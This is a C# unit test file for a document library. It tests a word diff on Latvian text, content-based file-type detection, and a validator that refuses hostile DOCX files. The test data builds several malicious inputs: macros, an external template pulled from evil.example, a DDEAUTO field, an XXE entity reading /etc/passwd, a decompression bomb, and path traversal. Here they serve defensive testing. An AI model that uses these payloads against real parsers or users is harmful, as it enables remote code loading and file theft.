using FsCheck;
using FsCheck.Fluent;
using Plus.Shared.Documents.Docx;
using Plus.Shared.Documents.Versions;

namespace Plus.Shared.Tests.Documents;

public sealed class FilesAndWordsTests
{
    [Fact]
    public void Diff_OfAnyTwoTexts_GivesBothBack()
    {
        var words = Gen.Elements("a", "b", "c", "un", "vai");
        var line = words.ArrayOf(6).Select(w => string.Join(' ', w));
        var text = line.ArrayOf(5).Select(l => string.Join('\n', l)).ToArbitrary();
        Prop.ForAll(
                text,
                text,
                (older, newer) =>
                {
                    var lines = WordDiff.Lines(older, newer);
                    return Put(lines, DiffKind.Added) == older && Put(lines, DiffKind.Removed) == newer;
                }
            )
            .QuickCheckThrowOnFailure();
    }

    [Fact]
    public void Diff_OfOneChangedWord_ShowsThatWordAlone()
    {
        var lines = WordDiff.Lines("Ierasties 1. aprīlī plkst. 10.00.", "Ierasties 2. aprīlī plkst. 10.00.");

        Assert.Equal(["Ierasties ", "1. ", "2. ", "aprīlī plkst. 10.00."], Assert.Single(lines).Select(p => p.Text));
    }

    [Theory]
    [MemberData(nameof(Hostile))]
    public void File_ThatIsHostile_IsRefusedWithItsReason(string why, byte[] bytes)
    {
        Assert.Null(FileKind.Of(bytes, out var reason));
        Assert.Equal(why, reason);
    }

    public static TheoryData<string, byte[]> Hostile()
    {
        var good = MadeDocx.Of("Labs");
        const string Xml = "<?xml version=\"1.0\"?>";
        const string Rels =
            Xml + "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
        const string Doc =
            "<w:document xmlns:w=\""
            + "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
            + "\"><w:body><w:p>";
        return new()
        {
            { "empty", [] },
            { "unknown", "teksts"u8.ToArray() },
            { "tooLarge", new byte[FileKind.Largest + 1] },
            { "damaged", [.. "PK\x03\x04"u8, .. new byte[50]] },
            { "macro", MadeDocx.With(good, "word/vbaProject.bin", "x") },
            { "macro", MadeDocx.With(good, "word/embeddings/oleObject1.bin", "x") },
            {
                "external",
                MadeDocx.With(
                    good,
                    "word/_rels/document.xml.rels",
                    Rels
                        + "<Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"
                )
            },
            {
                "external",
                MadeDocx.With(
                    good,
                    "word/document.xml",
                    Xml + Doc + "<w:r><w:instrText> DDEAUTO c:\\\\x </w:instrText></w:r></w:p></w:body></w:document>"
                )
            },
            {
                "doctype",
                MadeDocx.With(
                    good,
                    "word/document.xml",
                    Xml
                        + "<!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"
                        + Doc
                        + "<w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>"
                )
            },
            { "bomb", MadeDocx.With(good, "word/media.xml", new string('a', 30_000_000)) },
            { "paths", MadeDocx.With(good, "word/../../etc/x.xml", "<a/>") },
        };
    }

    [Fact]
    public void File_IsJudgedByItsContent()
    {
        Assert.Same(FileKind.Docx, FileKind.Of(MadeDocx.Of("Labs"), out _));
        Assert.Same(FileKind.Pdf, FileKind.Of("%PDF-1.4"u8, out _));
        Assert.Same(FileKind.Jpeg, FileKind.Of([0xFF, 0xD8, 0xFF, 0xE0], out _));
    }

    [Fact]
    public void Text_OfADocx_IsALineAParagraph() =>
        Assert.Equal("Pirmā rindkopa\nOtrā", DocxText.Read(MadeDocx.Of("Pirmā rindkopa", "Otrā")));

    private static string Put(IReadOnlyList<IReadOnlyList<DiffPiece>> lines, DiffKind without) =>
        string.Join(
            '\n',
            lines
                .Where(l => l.Any(p => p.Kind != without) || l.All(p => p.Text.Length == 0 && p.Kind != without))
                .Select(l => string.Concat(l.Where(p => p.Kind != without).Select(p => p.Text)))
        );
}
